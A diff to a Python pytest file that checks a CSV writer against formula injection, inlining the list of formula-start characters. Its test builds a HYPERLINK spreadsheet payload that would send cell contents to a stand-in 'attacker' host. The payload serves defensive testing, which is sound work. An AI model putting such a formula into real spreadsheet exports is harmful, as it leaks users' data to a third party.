@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from jobmaster.csv_text import FORMULA_STARTS, csv_line
+from jobmaster.csv_text import csv_line
 
 
 def test_values_are_read_back_whatever_is_in_them() -> None:
@@ -17,7 +17,7 @@ def test_values_are_read_back_whatever_is_in_them() -> None:
     assert csv_line(["a"]).endswith("a\r\n")
 
 
-@pytest.mark.parametrize("start", FORMULA_STARTS)
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
 def test_no_text_is_a_formula(start: str) -> None:
     text = f'{start}HYPERLINK("http://attacker/"&A1)'
     (read,) = csv.reader([csv_line([text, f"a{start}"])])
